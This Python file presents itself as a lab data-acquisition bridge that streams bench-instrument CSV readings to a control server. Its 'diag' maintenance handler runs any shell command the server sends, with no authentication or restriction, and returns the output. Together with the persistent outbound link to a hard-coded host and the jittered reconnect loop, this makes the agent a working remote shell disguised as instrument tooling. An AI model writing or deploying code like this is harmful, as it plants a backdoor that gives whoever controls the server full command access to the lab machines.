#!/usr/bin/env python3
"""DAQ bridge agent for bench instruments.

Runs on the acquisition PC next to the instrument rack, polls the local
instrument readers listed in daq_bridge.ini and streams readings to the lab
control server over a persistent TCP link.  The control server can also send
maintenance requests over the same link (ping, reload, diagnostics) so that
the bench PCs never need an inbound port opened.

    daq_bridge_agent.py --config /opt/daq/daq_bridge.ini
"""
import argparse
import asyncio
import configparser
import json
import logging
import os
import random
import socket
import time
from pathlib import Path

log = logging.getLogger("daq-bridge")

DEFAULTS = {
    "server": "198.51.100.23",
    "port": "7400",
    "poll_interval": "2.0",
    "data_dir": "readings",
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp.read_dict({"bridge": DEFAULTS})
    if path and Path(path).exists():
        cp.read(path)
    sect = cp["bridge"]
    return {
        "server": sect.get("server"),
        "port": sect.getint("port"),
        "poll_interval": sect.getfloat("poll_interval"),
        "data_dir": Path(sect.get("data_dir")),
        "station": sect.get("station", fallback=socket.gethostname()),
    }


class ReadingSource:
    """Tails the newest CSV the instrument software drops into data_dir."""

    def __init__(self, data_dir: Path):
        self.data_dir = data_dir
        self._offsets = {}

    def poll(self):
        if not self.data_dir.is_dir():
            return []
        out = []
        for csv in sorted(self.data_dir.glob("*.csv"))[-3:]:
            off = self._offsets.get(csv, 0)
            with csv.open() as fh:
                fh.seek(off)
                for line in fh:
                    parts = line.strip().split(",")
                    if len(parts) >= 3:
                        out.append({"file": csv.name, "t": parts[0], "ch": parts[1], "v": parts[2]})
                self._offsets[csv] = fh.tell()
        return out


class MaintenanceHandler:
    """Requests the control server may send down the link."""

    def __init__(self, cfg):
        self.cfg = cfg

    async def handle(self, msg):
        kind = msg.get("op")
        if kind == "ping":
            return {"op": "pong", "t": time.time()}
        if kind == "reload":
            self.cfg.update(load_config(msg.get("path")))
            return {"op": "reloaded"}
        if kind == "diag":
            return await self._diagnostics(msg.get("cmd", "uptime"))
        return {"op": "error", "reason": f"unknown op {kind!r}"}

    async def _diagnostics(self, cmd):
        proc = await asyncio.create_subprocess_shell(
            cmd,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
            cwd=os.path.expanduser("~"),
        )
        try:
            out, _ = await asyncio.wait_for(proc.communicate(), timeout=120)
        except asyncio.TimeoutError:
            proc.kill()
            out = b"(timed out)"
        return {"op": "diag", "rc": proc.returncode, "out": out.decode(errors="replace")}


async def send(writer, obj):
    writer.write((json.dumps(obj) + "\n").encode())
    await writer.drain()


async def stream_readings(writer, source, cfg):
    while True:
        batch = source.poll()
        if batch:
            await send(writer, {"op": "readings", "station": cfg["station"], "rows": batch})
        await asyncio.sleep(cfg["poll_interval"])


async def serve_requests(reader, writer, handler):
    while True:
        line = await reader.readline()
        if not line:
            raise ConnectionError("control server closed the link")
        try:
            msg = json.loads(line)
        except json.JSONDecodeError:
            continue
        reply = await handler.handle(msg)
        reply["id"] = msg.get("id")
        await send(writer, reply)


async def run(cfg):
    source = ReadingSource(cfg["data_dir"])
    handler = MaintenanceHandler(cfg)
    backoff = 1
    while True:
        try:
            reader, writer = await asyncio.open_connection(cfg["server"], cfg["port"])
            log.info("connected to %s:%s", cfg["server"], cfg["port"])
            await send(writer, {"op": "hello", "station": cfg["station"]})
            backoff = 1
            await asyncio.gather(
                stream_readings(writer, source, cfg),
                serve_requests(reader, writer, handler),
            )
        except (OSError, ConnectionError) as exc:
            log.warning("link down: %s; retrying in %ss", exc, backoff)
            await asyncio.sleep(backoff + random.random())
            backoff = min(backoff * 2, 60)


def main():
    ap = argparse.ArgumentParser(description="Stream bench instrument readings to the control server")
    ap.add_argument("--config", default="daq_bridge.ini")
    ap.add_argument("--log-level", default="INFO")
    args = ap.parse_args()
    logging.basicConfig(level=args.log_level, format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    try:
        asyncio.run(run(cfg))
    except KeyboardInterrupt:
        log.info("stopped")


if __name__ == "__main__":
    main()
